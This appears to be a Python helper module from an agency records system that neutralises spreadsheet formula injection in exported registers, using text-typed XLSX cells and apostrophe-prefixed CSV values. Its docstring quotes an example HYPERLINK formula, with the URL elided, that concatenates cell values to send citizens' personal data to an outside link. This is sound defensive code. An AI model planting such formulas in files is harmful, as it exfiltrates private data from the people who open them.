"""Cells of the spreadsheets officers download (the register, the statistics, Biểu 06a): a text is text.

A spreadsheet program reads a cell whose text starts with "=", "+", "-" or "@" as a formula, and runs it when the
file is opened: a citizen's address typed as ``=HYPERLINK("https://…?"&B7&C7, "…")`` in a form became a live formula
in the agency's register, able to carry other citizens' names and phones out of the officer's machine. Such text
is written as a text cell (XLSX), or behind an apostrophe (CSV, where a cell has no type), and shows as typed."""
from __future__ import annotations

from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def risky(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def text_cell(cell):
    """``cell`` (an openpyxl cell, write-only or not) kept as text when its value would be read as a formula."""
    if risky(cell.value):
        cell.data_type = "s"
    return cell


def csv_value(value: Any) -> Any:
    """``value`` for a CSV cell: a text read as a formula behind an apostrophe (OWASP's advice), others as they are."""
    return "'" + value if risky(value) else value
